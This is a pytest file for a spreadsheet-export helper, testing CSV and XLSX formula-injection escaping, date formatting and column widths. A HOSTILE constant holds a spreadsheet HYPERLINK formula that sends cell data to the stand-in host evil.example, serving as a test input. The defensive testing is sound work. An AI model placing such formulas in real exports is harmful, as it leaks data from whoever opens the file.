import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from carnet.lib.spreadsheets import csv_bytes, csv_text, read_cell, safe_cell, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Caritas Albania", "Caritas Albania"),
        ("a=1", "a=1"),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        (True, "True"),
    ],
)
def test_safe_cell_quotes_text_a_spreadsheet_would_run(value, cell):
    assert safe_cell(value) == cell


def test_read_cell_gives_back_what_safe_cell_was_given():
    for text in (HOSTILE, "-2", "'quoted", "plain"):
        assert read_cell(safe_cell(text)) == text


def test_csv_text_neutralises_every_cell_of_every_row():
    assert csv_text([["name", "n"], [HOSTILE, 3]]) == (
        'name,n\r\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",3\r\n'
    )


def test_xlsx_bytes_never_stores_a_formula_cell():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["name"], [HOSTILE], ["=1+1"]], title="t"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [(c.value, c.data_type) for c in cells] == [
        ("name", "s"),
        ("'" + HOSTILE, "s"),
        ("'=1+1", "s"),
    ]


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|import openpyxl|from openpyxl|Workbook\(")


def test_no_module_writes_a_spreadsheet_without_the_cell_helper():
    """A new CSV or XLSX export must go through carnet/lib/spreadsheets.py."""
    root = Path(__file__).resolve().parents[2] / "carnet"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_a_csv_for_people_starts_with_the_byte_order_mark_excel_needs_for_accents():
    data = csv_bytes([["Organisation"], ["Caritas Shkodër"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "Organisation\r\nCaritas Shkodër\r\n"


def test_csv_dates_are_iso_text():
    when = datetime.datetime(2016, 10, 1, 14, 30)
    assert csv_text([[datetime.date(2016, 10, 1), when]]) == "2016-10-01,2016-10-01 14:30\r\n"


def test_an_xlsx_has_a_frozen_bold_header_columns_as_wide_as_their_text_and_real_dates():
    rows = [
        ["Organisation", "Joined"],
        ["Caritas Albania, Shkodër office", datetime.date(2016, 10, 1)],
    ]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title="members"))).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b is True
    assert sheet.column_dimensions["A"].width == len("Caritas Albania, Shkodër office") + 2
    assert sheet.column_dimensions["B"].width == len("2016-10-01") + 2
    assert sheet["B2"].is_date and sheet["B2"].value == datetime.datetime(2016, 10, 1)


def test_a_very_long_text_does_not_make_a_column_wider_than_the_screen():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["Story"], ["x" * 500]], title="t"))).active
    assert sheet.column_dimensions["A"].width == 60
